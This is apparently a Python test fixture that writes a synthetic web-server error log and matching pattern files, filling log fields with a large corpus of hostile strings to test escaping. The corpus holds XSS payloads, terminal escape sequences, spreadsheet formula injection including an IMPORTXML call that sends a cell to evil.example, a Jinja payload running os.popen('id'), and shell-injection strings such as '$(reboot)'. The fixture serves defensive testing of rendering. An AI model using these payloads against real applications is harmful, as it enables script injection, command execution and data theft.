"""What attackers write into logs, and a log whose messages, referers, users and paths hold it."""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1b(0lqk", "\x9b31mred", "\x9d0;owned\x9c", "\x90dcs\x9c", "\x85next line",
    "back\x08\x08\x08space", "\x07bell", "\rhidden", "\x0bvertical", "\x0cform feed", "\x00null\x00", "\x7fdelete",
    "tab\there", "\x1c\x1d\x1e\x1f separators", "\\x1b[31m escaped by httpd",
)  # fmt: skip
INVISIBLE = (
    "\u202egnp.exe", "\u202a\u202b\u202c\u202d", "\u2066iso\u2069", "\u200e\u200fmarks", "\u061cmark", "zero\u200bwidth",
    "zero\u200cwidth\u200d", "\u2060joiner", "\ufeffbom", "soft\u00adhyphen", "\u2028line", "\u2029paragraph",
    "\U000e0041\U000e007ftags", "\ue000private", "\ufdd0none", "\u180evowel",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</pre></code></td>", "<!-- gone", "-->", "<br>", "<details>",
    "<a href='javascript:alert(1)'>x</a>", "<http://evil.example>", "<mailto:a@evil.example>", "&lt;b&gt;", "&#60;b&#62;", "&nbsp;",
    "<![CDATA[x]]>", "<?php x ?>", "' onload='x", '" onload="x',
)  # fmt: skip
MARKDOWN = (
    "[click](http://evil.example/)", "![x](http://evil.example/x.png)", "[x][1]", "[1]: http://evil.example", "[^1]", "[^1]: note",
    "http://evil.example/", "HTTPS://EVIL.EXAMPLE", "ftp://evil.example", "www.evil.example", "WWW.evil.example", "a@evil.example",
    "@everyone", "x @team/all", "#1", "org/repo#1", "GH-1", "`code`", "``co`de``", "```", "````", "~~~", "~~~~ sh",
    "**bold**", "__under__", "*em*", "_em_", "~~gone~~", "$math$", "$$math$$", ":smile:", ":+1:", "| a | b |", "a|b", "\\|", "\\`",
    "|---|---|", "- item", "+ item", "* item", "1. item", "2) item", "# head", "###### head", "#", "> quote", ">quote", "---", "***",
    "___", "===", "- [ ] todo", "\\", "\\\\n", "\\*", "ends in a backslash\\",
)  # fmt: skip
OTHER = (
    "=1+1", "+cmd", "{{7*7}}", "${7*7}", "%s%n", "{pool}", "{0}", "[e1]", "[red]rich[/red]", "[/]", "[link=http://evil.example]x[/link]",
    "T+00:00", "$(reboot)", "`reboot`", "x; reboot", "'; reboot; '", "é\u0301", "e" + "\u0301" * 50, "🙂", "שלום", "日本語",
    "\ud800 half", "half \udfff", "\udcff byte", "A" * 5000, "`" * 300, "[" * 300, "\u202e" * 300,
)  # fmt: skip
BROWSER = (
    "</script><script>alert(1)</script>", "<!--<script>", "<script src=//evil.example></script>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<a href=javascript:alert(1)>x", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=x>", "<object data=//evil.example>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><script>alert(1)</script>", "<textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</dialog></main></article>", "<input autofocus onfocus=alert(1)>",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "'-alert(1)-'", "\"-alert(1)-\"", "\\u003cscript\\u003ealert(1)", "&lt;script&gt;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<img src=`x` onerror=`alert(1)`>", "<video><source onerror=alert(1)>", "#i1-e1", "i1-e1' tabindex='0",
)  # fmt: skip
SHEET = (
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "＝1+1", " =1+1", "'=1+1", "\"=1+1", ";=1+1", ",=1+1", "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "%0A=1+1", "|=1+1",
)  # fmt: skip
TEMPLATES = (
    "{{ report }}", "{{ ''.__class__.__mro__ }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{%- raw -%}", "{{ config }}", "${{ 7*7 }}", "#{7*7}",
    "<%= 7*7 %>", "*{7*7}", "{{constructor.constructor('alert(1)')()}}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "%(password)s", "{report.command}",
)  # fmt: skip
MERMAID = (
    "graph TD; A-->B", "click A \"javascript:alert(1)\"", "section x", "14:02 : x", "title y", "x : y : z", "%%{init: {'theme':'dark'}}%%", "::icon(fa)", "gantt", "A[\"<b>\"]",
    "end", "; B", "#35;", "timeline",
)  # fmt: skip
JSON = ('"},{"x":"', '\\"', "\\u0000", "/*", "]}", "NaN", "__proto__", '{"$ref":"x"}', "\\ud800")
TEXTS: tuple[str, ...] = (
    *TERMINAL, *INVISIBLE, *MARKUP, *MARKDOWN, *OTHER, *BROWSER, *SHEET, *TEMPLATES, *MERMAID, *JSON,
)  # fmt: skip

PATTERN = """
id = 'shop.till.jammed-NUMBER'
title = 'The till is jammed'
role = 'cause'
category = 'backend-down'
severity = 'critical'
[[match]]
contains = 'till NUMBER of user'
regex = '''till NUMBER of user (?P<user>.+) is jammed at (?P<path>.+) today'''
[worker]
state = 'poisoned'
[explain]
summary = '{workers} workers are stuck for {user} at {path}.'
cause = 'The drawer {path} of {user} is stuck.'
confirm = ['stat {path}', "namei -l '{path}'"]
fix = 'Open {path} for {user}.'
prevent = 'Oil {path}.'
[[example]]
log = '''
[Tue Mar 03 14:02:11.120001 2020] [shop:error] [pid 7:tid 7] till NUMBER of user x is jammed at /srv/x today
'''
"""
TRIGGER = """
id = 'shop.keys.changed'
title = 'The keys were changed'
role = 'trigger'
[[match]]
contains = 'new keys for'
[[example]]
log = '''
[Tue Mar 03 14:02:11.120001 2020] [shop:notice] [pid 7:tid 7] new keys for x
'''
"""
START = datetime(2020, 3, 3, 6, 0, 0)
APART = timedelta(hours=2)


def line(when: datetime, level: str, pid: int, client: str, text: str) -> str:
    head = f"[{when:%a %b %d %H:%M:%S}.000001 {when:%Y}] [shop:{level}] [pid {pid}:tid {pid}] "
    return f"{head}[client {client}:4711] {text}"


def write(folder: Path, texts: Sequence[str], name: str = "error.log") -> Path:
    """Write the log of these texts into a folder, and the patterns that know it: one a text, or they would be chronic."""
    for number in range(len(texts)):
        (folder / f"{number:03}.toml").write_text(PATTERN.replace("NUMBER", str(number)))
    (folder / "trigger.toml").write_text(TRIGGER)
    (folder / name).write_bytes(log_of(texts))
    return folder / name


def log_of(texts: Sequence[str]) -> bytes:
    """A log in which each text makes an incident of its own, and stands in all places that a client can fill.

    Beside each incident stand a trigger that tells the text, and a message that no pattern knows.
    """
    lines = [line(START, "error", 199, "203.0.113.9", "first of all"), *("[Tue Mar 03 nonsense\x1b[31m<b>`|",) * 2]
    for number, text in enumerate(texts):
        begin = START + APART * (number + 1)
        lines.append(line(begin - timedelta(seconds=60), "notice", 100, "203.0.113.8", f"new keys for {text}"))
        for second in range(6):
            pid, client = 1000 + 10 * number + second, f"203.0.113.{second + 1}"
            told = f"till {number} of user {text} is jammed at /srv/{text} today, referer: http://shop.example/{text}"
            lines.append(line(begin + timedelta(seconds=second), "error", pid, client, told))
        if number % 2 == 0:  # few of these are told
            odd, more = chr(ord("a") + number // 2) * 9, texts[(number + 1) % len(texts)]
            said = f"{odd} {text} and {more} says nobody"
            lines.append(line(begin + timedelta(minutes=40), "error", 199, "203.0.113.9", said))
    lines.append(line(START + APART * (len(texts) + 2), "error", 199, "203.0.113.9", "last of all"))
    return "\n".join(lines).encode("utf-8", "surrogatepass") + b"\n"
